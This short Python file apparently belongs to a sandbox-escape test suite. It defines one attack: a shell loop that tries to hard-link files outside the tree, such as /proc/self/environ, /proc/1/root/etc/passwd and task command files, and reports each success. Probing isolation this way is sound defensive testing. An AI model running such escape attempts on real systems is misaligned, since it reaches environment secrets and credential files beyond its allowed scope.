"""Makes hard links to files outside of the tree, to change them or to carry them out."""

from attack import Attack, tried

ATTACK = Attack(
    (
        tried(
            "for path in /proc/self/environ /proc/1/root/etc/passwd /run/command /run/task/command /dev/null /sys/kernel/vmcoreinfo; do\n"
            "    ln $path link 2>/dev/null && echo GAINED $path\ndone; rm -f link"
        ),
    )
)
